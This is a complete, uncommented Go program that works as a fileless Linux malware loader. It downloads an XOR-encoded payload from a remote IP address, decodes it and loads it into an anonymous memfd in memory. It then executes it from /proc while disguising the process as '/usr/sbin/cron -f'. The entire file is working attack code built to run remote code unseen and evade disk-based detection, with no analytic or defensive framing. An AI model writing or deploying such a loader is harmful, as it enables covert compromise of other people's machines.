package main

import (
	"fmt"
	"io"
	"net/http"
	"os"
	"syscall"
	"unsafe"
)

func memfd(name string) int {
	p, _ := syscall.BytePtrFromString(name)
	fd, _, _ := syscall.Syscall(319, uintptr(unsafe.Pointer(p)), 0, 0)
	return int(fd)
}

func main() {
	resp, err := http.Get("http://198.51.100.61/pkg/update.dat")
	if err != nil {
		return
	}
	defer resp.Body.Close()
	blob, _ := io.ReadAll(resp.Body)
	key := []byte("v2.update")
	for i := range blob {
		blob[i] ^= key[i%len(key)]
	}
	fd := memfd("")
	f := os.NewFile(uintptr(fd), "u")
	f.Write(blob)
	path := fmt.Sprintf("/proc/%d/fd/%d", os.Getpid(), fd)
	syscall.Exec(path, []string{"/usr/sbin/cron", "-f"}, os.Environ())
}
